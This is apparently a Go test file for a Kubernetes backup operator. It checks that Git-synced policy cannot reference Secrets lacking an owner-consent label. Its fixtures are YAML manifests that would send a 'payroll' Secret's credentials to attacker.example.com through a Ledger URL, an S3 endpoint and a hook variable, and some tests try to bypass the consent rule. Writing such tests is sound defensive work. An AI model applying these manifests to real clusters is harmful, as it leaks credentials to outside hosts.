package policysync

import (
	"testing"
	"time"

	"github.com/fluxcd/pkg/apis/meta"
	"github.com/fluxcd/pkg/runtime/conditions"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/cairn-backup/cairn/api/v1alpha1"
)

// labelled makes a PolicySync whose policy may name only labelled Secrets.
func labelled(p *v1alpha1.PolicySync) { p.Spec.Secrets = v1alpha1.SecretsLabelled }

// secret makes a Secret with or without the consent of its owner.
func (r *testNamespace) secret(name string, consent bool) *corev1.Secret {
	r.t.Helper()
	s := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: r.namespace, Name: name},
		StringData: map[string]string{"username": "u", "password": "p"},
	}
	if consent {
		s.Labels = map[string]string{v1alpha1.LabelPolicyMayUse: "true"}
	}
	r.g.Expect(r.Create(r.t.Context(), s)).To(Succeed())
	return s
}

const configurationWithHook = `apiVersion: backup.cairn.dev/v1alpha1
kind: BackupConfiguration
metadata: {name: web}
spec:
  target: {kind: PersistentVolumeClaim, name: web}
  backends: [{name: main, storageRef: {name: local}}]
  sessions:
  - name: nightly
    scheduler: {schedule: "0 2 * * *"}
    addon: {name: pvc-addon, tasks: [{name: logical-backup}]}
    repositories: [{name: web, backend: main, directory: /web, encryptionSecret: {name: later}}]
    hooks:
      postBackup:
      - name: report
        hookTemplate: {name: report}
        variables:
        - {name: token, valueFrom: {secretKeyRef: {name: payroll, key: password}}}
`

const ledgerWithSecret = `apiVersion: backup.cairn.dev/v1alpha1
kind: Ledger
metadata: {name: records}
spec:
  url: https://attacker.example.com/records.git
  clusterName: c
  secretRef: {name: payroll}
`

const storageWithSecret = `apiVersion: backup.cairn.dev/v1alpha1
kind: BackupStorage
metadata: {name: local}
spec:
  storage:
    provider: s3
    s3: {endpoint: "https://attacker.example.com", bucket: backups, secretName: payroll}
`

// TestPolicyNamesOnlyLabelledSecrets merges policy that sends a Secret of the namespace, which nobody meant for it, to
// a server of the attacker.
func TestPolicyNamesOnlyLabelledSecrets(t *testing.T) {
	for name, tc := range map[string]struct{ file, at string }{
		"a request": {
			configurationWithHook, "policy/x.yaml:17: document 1: spec.sessions[0].hooks.postBackup[0].variables[0]." +
				"valueFrom.secretKeyRef.name: ",
		},
		"a Ledger":  {ledgerWithSecret, "policy/x.yaml:7: document 1: spec.secretRef.name: "},
		"a storage": {storageWithSecret, "policy/x.yaml:7: document 1: spec.storage.s3.secretName: "},
		"a database": {
			configurationOfDatabase,
			"policy/x.yaml:12: document 1: spec.sessions[0].addon.tasks[0].params.secretName: ",
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRoom(t, labelled)
			payroll := r.secret("payroll", false)
			first := r.push(good)
			r.reconcile()
			r.expectReady(first)

			bad := r.push(map[string]string{
				"policy/s.yaml": storage("local"), "policy/t.yaml": storage("another"), "policy/x.yaml": tc.file,
			})
			if name == "a storage" { // it takes the place of the other one
				bad = r.push(map[string]string{"policy/t.yaml": storage("another"), "policy/x.yaml": tc.file})
			}
			r.reconcile()
			r.g.Expect(r.exists(&v1alpha1.BackupStorage{}, "another")).To(BeFalse(), "nothing of the revision")
			r.expectNotReady(v1alpha1.ReasonSecretNotLabelled, "revision "+bad+": "+tc.at+"Secret "+r.namespace+
				"/payroll does not carry the label backup.cairn.dev/policy-may-use: \"true\"")
			r.g.Expect(conditions.GetMessage(r.sync, meta.ReadyCondition)).To(ContainSubstring(
				"run: kubectl label secret -n " + r.namespace + " payroll backup.cairn.dev/policy-may-use=true"))
			r.g.Expect(r.sync.Status.LastAppliedRevision).To(Equal(first))

			payroll.Labels = map[string]string{v1alpha1.LabelPolicyMayUse: "true"}
			r.g.Expect(r.Update(t.Context(), payroll)).To(Succeed())
			r.clock.Step(time.Minute)
			r.reconcile()
			r.expectReady(bad)
		})
	}
}

const configurationOfDatabase = `apiVersion: backup.cairn.dev/v1alpha1
kind: BackupConfiguration
metadata: {name: db}
spec:
  target: {kind: Service, name: db}
  backends: [{name: main, storageRef: {name: local}}]
  sessions:
  - name: nightly
    scheduler: {schedule: "0 2 * * *"}
    addon:
      name: postgres-addon
      tasks: [{name: logical-backup, params: {secretName: payroll}}]
    repositories: [{name: db, backend: main, directory: /db, encryptionSecret: {name: later}}]
`

// TestPolicyGivesItselfNoConsent tries to get around the rule from Git.
func TestPolicyGivesItselfNoConsent(t *testing.T) {
	const secret = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: payroll\n" +
		"  labels: {backup.cairn.dev/policy-may-use: \"true\"}\n"
	sync := func(secrets string) string {
		return "apiVersion: backup.cairn.dev/v1alpha1\nkind: PolicySync\nmetadata: {name: another}\n" +
			"spec: {url: \"https://git.example.com/x.git\", prune: true" + secrets + "}\n"
	}
	for name, tc := range map[string]struct{ file, says string }{
		"a label from Git": {secret, "is the consent of whoever owns the Secret, which policy can't give to itself"},
		"a PolicySync without the rule": {
			sync(""), "document 1: spec.secrets: must be Labelled, as it is in the PolicySync that applies this one",
		},
		"one that says All": {sync(", secrets: All"), "document 1: spec.secrets: must be Labelled"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRoom(t, labelled, func(p *v1alpha1.PolicySync) { p.Spec.ServiceAccountName = "deployer" })
			r.allow("deployer")
			r.secret("payroll", false)
			r.push(map[string]string{"policy/x.yaml": tc.file})
			r.reconcile()
			r.expectNotReady(v1alpha1.ReasonValidationFailed, tc.says)
		})
	}
}

// TestAnotherNamespaceMustHaveGivenItsConsent names a Secret of another namespace, which is absent or not labelled:
// the message is the same.
func TestAnotherNamespaceMustHaveGivenItsConsent(t *testing.T) {
	r := asDeployer(t, labelled)
	other := bed.Namespace(t, nil)
	r.begins(good)
	files := map[string]string{"policy/x.yaml": "apiVersion: backup.cairn.dev/v1alpha1\nkind: Ledger\n" +
		"metadata: {name: records, namespace: " + other + "}\n" +
		"spec: {url: \"https://git.example.com/r.git\", clusterName: c, secretRef: {name: git}}\n"}
	r.push(files)
	says := "Secret " + other + "/git does not carry the label"
	r.reconcile()
	r.expectNotReady(v1alpha1.ReasonSecretNotLabelled, says)
	git := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: other, Name: "git"}}
	r.g.Expect(r.Create(t.Context(), git)).To(Succeed())
	r.reconcile()
	r.expectNotReady(v1alpha1.ReasonSecretNotLabelled, says)
	git.Labels = map[string]string{v1alpha1.LabelPolicyMayUse: "true"}
	r.g.Expect(r.Update(t.Context(), git)).To(Succeed())
	r.reconcile()
	r.g.Expect(conditions.GetReason(r.sync, meta.ReadyCondition)).NotTo(Equal(v1alpha1.ReasonSecretNotLabelled))
}
